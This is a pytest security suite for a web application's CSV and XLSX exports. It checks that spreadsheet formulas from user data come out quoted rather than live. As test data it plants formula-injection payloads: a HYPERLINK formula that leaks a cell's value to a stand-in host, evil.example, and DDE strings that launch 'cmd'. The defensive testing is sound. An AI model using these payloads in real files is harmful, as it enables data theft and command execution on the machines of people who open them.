"""Security baseline: every CSV and XLSX export neutralises spreadsheet formulas (one writer)."""
import csv
import io
import re
import zipfile

import openpyxl
import pytest
import sqlalchemy as sa

from jgrad import exports
from jgrad.accounts.models import Role
from jgrad.extensions import db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
PLANTED = {
    "family_name": HYPERLINK, "given_name": "+cmd|' /C calc'!A0",
    "family_name_roman": "-2+3+cmd|' /C calc'!A0", "given_name_roman": "@SUM(1+1)*cmd",
}
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^-?\d+(\.\d+)?$")


def assert_no_live_formula(cells) -> int:
    """Fail on a text cell a spreadsheet would run; return how many cells were checked."""
    checked = 0
    for cell in cells:
        if isinstance(cell, str) and not NUMBER.match(cell) and cell != "-":  # "-": no value
            assert not cell.startswith(DANGEROUS), cell
        checked += 1
    return checked


def csv_cells(text: str) -> list[str]:
    assert text.startswith("\ufeff")  # Excel reads UTF-8 only with a BOM
    return [cell for row in csv.reader(io.StringIO(text[1:])) for cell in row]


def xlsx_cells(data: bytes) -> list:
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    cells = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.value  # no formula cell at all
                cells.append(cell.value)
    return cells


@pytest.fixture
def planted(make_university, make_registrant, make_account):
    university = make_university(code="HOME")
    person = make_registrant(email="hana@example.org", university=university, **PLANTED)
    staff = make_account(Role.STAFF, email="staff@home.example", university=university)
    make_account(Role.ADMIN, email="admin@example.org")
    return university, person, staff


def test_security_baseline_staff_export_neutralises_formulas(client, login, planted):
    university, person, _ = planted
    login("staff@home.example")
    text = client.get("/records/export.csv").get_data(as_text=True)
    cells = csv_cells(text)
    assert assert_no_live_formula(cells) > 10
    assert "'" + HYPERLINK in cells and "'+cmd|' /C calc'!A0" in cells
    xlsx = client.get("/records/export.xlsx")
    assert xlsx.status_code == 200 and xlsx.mimetype.endswith("spreadsheetml.sheet")
    values = xlsx_cells(xlsx.data)
    assert assert_no_live_formula(values) > 10
    assert "'" + HYPERLINK in values
    assert university.name_en in values  # names, not ids


def test_security_baseline_registrant_download_neutralises_formulas(client, login, planted):
    _, person, _ = planted
    login("hana@example.org")
    archive = zipfile.ZipFile(io.BytesIO(client.get("/me/download/jgrad-record.zip").data))
    checked = 0
    for name in archive.namelist():
        checked += assert_no_live_formula(csv_cells(archive.read(name).decode("utf-8")))
    assert checked > 20
    profile = csv_cells(archive.read("profile.csv").decode("utf-8"))
    assert "'" + HYPERLINK in profile and "'@SUM(1+1)*cmd" in profile


def test_security_baseline_provisions_export_neutralises_formulas(client, login, planted):
    login("admin@example.org")
    response = client.submit("/admin/provisions", {
        "dataset": "@SUM(A1:A9)", "recipient": HYPERLINK, "purpose": "=1+1",
        "legal_basis": "-1+1", "provided_on": "2026-10-01", "records": "1200"})
    assert response.status_code == 302
    cells = csv_cells(client.get("/admin/provisions.csv").get_data(as_text=True))
    assert assert_no_live_formula(cells) >= 14
    assert {"'@SUM(A1:A9)", "'" + HYPERLINK, "'=1+1", "'-1+1", "1200"} <= set(cells)
    values = xlsx_cells(client.get("/admin/provisions.xlsx").data)
    assert assert_no_live_formula(values) >= 14
    assert "'" + HYPERLINK in values and 1200 in values  # the count stays a number


def test_security_baseline_writer_keeps_typed_numbers_and_quotes_text():
    header = ["label", "delta", "ratio", "note"]
    rows = [["＝1+1", -5, -0.25, "-5"], ["\rline", 3, 1.5, None], ["plain", 0, 0.0, True]]
    cells = csv_cells(exports.csv_text(header, rows))
    assert cells[4:] == ["'＝1+1", "-5", "-0.25", "'-5", "'\rline", "3", "1.5", "",
                         "plain", "0", "0.0", "True"]
    values = xlsx_cells(exports.xlsx_bytes({"sheet": (header, rows)}))
    assert values[4:8] == ["'＝1+1", -5, -0.25, "'-5"]  # typed negatives stay numbers
    assert exports.xlsx_bytes({"x": (["a"], [["bell\x07=1"]])})  # XLSX-illegal characters


def test_security_baseline_statistical_release_files_neutralise_formulas(
        runner, tmp_path, make_university, make_registrant):
    # A university is named in the tables from a line each series draws between 100 and
    # 149 registrants: with 150 it always is.
    university = make_university(code="BIG")
    university.name_en = university.name_ja = HYPERLINK  # named so in both languages
    for n in range(150):
        make_registrant(email=f"p{n}@example.org", university=university,
                        birth_year=1980 + n % 15, sex=("female", "male")[n % 2])
    out = tmp_path / "release"
    result = runner.invoke(args=["stats", "release", "--out", str(out)])
    assert result.exit_code == 0, result.output
    csv_checked = xlsx_checked = planted = 0
    for path in sorted(out.glob("*/*.csv")):  # every language's folder
        cells = csv_cells(path.read_text(encoding="utf-8"))
        csv_checked += assert_no_live_formula(cells)
        planted += cells.count("'" + HYPERLINK)
        xlsx_checked += assert_no_live_formula(xlsx_cells(path.with_suffix(".xlsx").read_bytes()))
    assert csv_checked > 100 and xlsx_checked > 100
    assert planted > 0  # the university's name was published, quoted
    assert {p.parent.name for p in out.glob("*/*.csv")} == {"en", "ja"}
